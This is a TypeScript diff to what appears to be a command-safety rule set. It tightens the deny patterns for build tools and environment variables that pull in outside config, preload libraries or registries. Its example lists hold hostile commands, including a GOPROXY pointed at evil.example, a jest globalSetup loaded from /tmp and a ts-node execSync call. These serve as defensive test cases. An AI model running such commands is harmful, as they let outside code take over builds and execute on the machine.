@@ -4,6 +4,9 @@ import { FAR_REACHING } from './packages.ts';
 
 const HERE = ['project', 'project-root', 'regenerable', 'temp', 'sink'] as const;
 const EDITORS = ['vim', 'vi', 'nvim', 'ex', 'view', 'rvim', 'gvim', 'vimdiff', 'ed', 'emacs'];
+/** Settings or code from a place that is not the project's. */
+const FOREIGN =
+  '(^| )(-[cCprR]|--?(config\\w*|conf|rc|rcfile|rootdir|require|import|loader|preload|setup\\w*|global(Setup|Teardown)|plugins?|rulesdir|resolver|transform|testRunner|reporters?|python-executable|vettool|toolexec|config-file|settings|init-script|tsconfig|project|cwd|prefix))[= ](/(?!home/)|~|\\.\\./)';
 const AWK = ['awk', 'gawk', 'mawk', 'nawk'];
 
 export const rules: Rule[] = [
@@ -67,6 +70,12 @@ export const rules: Rule[] = [
         env: '^(git_(ssh_command|pager|editor|external_diff|askpass|proxy_command|sequence_editor)|pager|manpager|editor|visual|lessopen|browser|ssh_askpass)=[^]*(\\brm\\b|\\bsh -c|\\bcurl\\b|\\|\\s{0,3}sh\\b|;)',
       },
       { env: '^(ld_preload|ld_audit|dyld_insert_libraries)=.*(/tmp/|/dev/shm|\\./)' },
+      {
+        env: '^(python(path|home|startup|breakpoint)|node_(path|options)|rustc(_wrapper|_workspace_wrapper)?|rust(doc)?flags|cargo_(home|build_\\w+)|cc|cxx|ld|ar|goflags|gopath|makeflags|makefiles|perl5(lib|opt)|ruby(lib|opt)|gem_(home|path)|classpath|maven_opts|gradle_opts|npm_config_(script_shell|userconfig|globalconfig|prefix)|git_dir|docker_config|kubeconfig|ansible_config)=[^ ]*.{0,200}(/tmp/|/dev/shm)',
+      },
+      {
+        env: '^(goproxy|gonosumdb|pip_(index_url|extra_index_url|trusted_host)|uv_(default_)?index(_url)?|npm_config_registry|yarn_registry|bundle_mirror\\w*|cargo_registries_\\w+|https?_proxy|all_proxy)=http://(?!(localhost|127\\.0\\.0\\.1)\\b)',
+      },
     ],
     examples: {
       deny: [
@@ -82,6 +91,9 @@ export const rules: Rule[] = [
         "man -P 'sh -c id' ls",
         "less '+!id' README.md",
         'GIT_SSH_COMMAND=\'sh -c "rm x"\' git fetch',
+        'PYTHONPATH=/tmp/x python3 app.py',
+        'RUSTC_WRAPPER=/tmp/x cargo build',
+        'GOPROXY=http://evil.example go mod download',
         "rsync -e 'sh -c id' a b",
       ],
       pass: [
@@ -96,6 +108,8 @@ export const rules: Rule[] = [
         "sed -e 's/one/e/g' f",
         "awk '/system/ {print}' f",
         'awk \'{system("echo " $1)}\' f',
+        'PYTHONPATH=src python3 app.py',
+        'CC=clang make',
         "rsync -e 'ssh -p 22' a h:b",
       ],
     },
@@ -143,22 +157,22 @@ const BUILDERS = words(`
   react-scripts craco expo eleventy docusaurus vitepress vuepress hexo gulp grunt postcss tailwindcss
   sass lessc pkgroll microbundle wireit moon changeset typedoc jsdoc graphql-codegen
   openapi-typescript openapi-generator-cli orval swagger-cli ts-json-schema-generator quicktype
-  json2ts tsx ts-node electron-builder electron-forge http-server serve live-server json-server msw
+  json2ts electron-builder electron-forge http-server serve live-server json-server msw
   concurrently nodemon wait-on npm-run-all run-s run-p rimraf-dry degit tiged husky plop hygen shadcn
   shadcn-ui sv patch-package start-server-and-test dotenv cross-env env-cmd create-* tauri cap
   capacitor ionic react-native pod metro prisma-client zx-dry napi node-gyp wasm-pack wasm-bindgen
   trunk dx cargo-* maturin cbindgen bindgen gcc g++ cc c++ clang clang++ gfortran rustc javac kotlinc
-  scalac ocamlc ocamlopt nim zig swiftc fpc nasm as ld ld.lld ar ranlib objdump objcopy nm strip
+  scalac ocamlc ocamlopt swiftc fpc nasm as ld ld.lld ar ranlib objdump objcopy nm strip
   readelf ldd otool size c++filt addr2line emcc em++ nvcc tinygo cython erlc elixirc csc mcs fsc valac
   dmd gnatmake cobc bison flex yacc lex ninja meson cmake ccmake autoreconf autoconf automake
   configure pkg-config bazel bazelisk buck buck2 pants please scons waf xmake premake5 conan vcpkg ant
-  xcodebuild xcrun swift jar javap jdeps jlink protoc flatc capnp thrift avro-tools sqlc
+  xcodebuild xcrun jar javap jdeps jlink protoc flatc capnp thrift avro-tools sqlc
   goreleaser-check templ wails fyne gomobile ko-build mkdocs sphinx-build sphinx-autobuild pdoc pdoc3
   doxygen mdbook hugo jekyll zola pelican quarto pandoc asciidoctor latexmk pdflatex xelatex lualatex
   bibtex biber tectonic typst dot neato plantuml mmdc d2 convert magick identify mogrify
   montage compare ffmpeg ffprobe sox cwebp svgo optipng pngquant jpegoptim inkscape rsvg-convert
   pdftotext pdftoppm pdfinfo qpdf tesseract jupyter jupytext papermill nbconvert streamlit
-  gradio uvicorn gunicorn hypercorn daphne flask fastapi celery-inspect cookiecutter copier
+  gradio uvicorn gunicorn hypercorn daphne fastapi celery-inspect cookiecutter copier
   alembic-check puma rackup rails-server foreman overmind hivemind tldr cheat asciinema vhs hyperfine
   entr watchexec swag oapi-codegen ent gqlgen mockery stringer bats-core gprof time
 `);
@@ -181,8 +195,7 @@ export const knowledge: Knowledge[] = [
           '--cmd',
         ],
         everyArg: '.',
-        notLine:
-          '://(?!localhost|127\\.0\\.0\\.1)|--(config|rootdir|require|import|setupFiles)[= ](/(?!home/)|~|\\.\\./)',
+        notLine: `://(?!localhost|127\\.0\\.0\\.1)|${FOREIGN}|--record( |$)|install-deps|--with-deps`,
       },
       {
         program: BUILDERS,
@@ -190,8 +203,7 @@ export const knowledge: Knowledge[] = [
         everyArg: '.',
         notVerbs: `${FAR_REACHING}|(^| )(remove|rm|clean-all|eject|login|logout|add-registry|auth|remote|config set|set-config)( |$)`,
         notFlags: ['-wrapper', '--plugin-path', '--delete', '-fplugin', '--publish', '--eval', '-specs'],
-        notLine:
-          '://(?!localhost|127\\.0\\.0\\.1)|\\b(changeset|lerna) (publish|version)|-fplugin|-shell-escape|--?enable-write18|-B/tmp|--install( |$)|(^| )install( |$)',
+        notLine: `://(?!localhost|127\\.0\\.0\\.1)|${FOREIGN}|\\b(changeset|lerna) (publish|version)|-fplugin|-shell-escape|--?enable-write18|-B/tmp|--install( |$)|(^| )install( |$)|(^| )-script( |$)`,
       },
       {
         program: ['gcc', 'g++', 'cc', 'clang', 'clang++', 'ffmpeg', 'cmake', 'convert'],
@@ -224,6 +236,7 @@ export const knowledge: Knowledge[] = [
         program: ['cmake'],
         flags: [['--build', '--preset', '-B', '-S', '-G', '--list-presets', '-E']],
         notFlags: ['-P', '--install'],
+        within: [...HERE],
         notLine: '--target[= ](install|uninstall|deploy)|-E (rm|remove|remove_directory|env|rename)\\b',
       },
     ],
@@ -251,6 +264,11 @@ export const knowledge: Knowledge[] = [
         'tsx ../x.ts',
         'changeset publish',
         'gnuplot -e "system(\'id\')"',
+        'jest --globalSetup /tmp/x.js',
+        'webpack --config ../x.js',
+        'ts-node -e \'require("child_process").execSync("id")\'',
+        'cmake -E copy a ~/x',
+        'cmake --build ../x',
         'pdflatex -shell-escape x.tex',
       ],
     },
@@ -266,6 +284,8 @@ export const knowledge: Knowledge[] = [
         notFlags: ['--eval', '-E', '-I', '--include-dir', '--shell'],
         within: ['project', 'project-root', 'regenerable'],
         everyArg: '.',
+        notArg:
+          '^(CC|CXX|LD|AR|AS|SHELL|MAKE|RM|INSTALL|PYTHON|NODE)=(?!((ccache )?[\\w.+-]*(gcc|g\\+\\+|clang|clang\\+\\+|cc|c\\+\\+|ld|ar|as)(-\\d+)?|python[\\d.]*|node)$)',
         // a file on standard input is not the project's
         notLine: '\\$\\(|SHELL=|`|(^| )(-[a-zA-Z]*f ?|--(make)?file[= ])-( |$)',
       },
@@ -277,7 +297,7 @@ export const knowledge: Knowledge[] = [
         notVerbs: `${FAR_REACHING}|(^|[ :._-])(install|uninstall|db)($|[ :._-])`,
         paths: 'none',
       },
-      { program: ['tox', 'nox', 'pre-commit', 'act'] },
+      { program: ['tox', 'nox', 'pre-commit', 'act'], notLine: FOREIGN },
     ],
     examples: {
       allow: ['make', 'make test', 'make -j4', 'make build lint', 'just test', 'make -j$(nproc) all'],
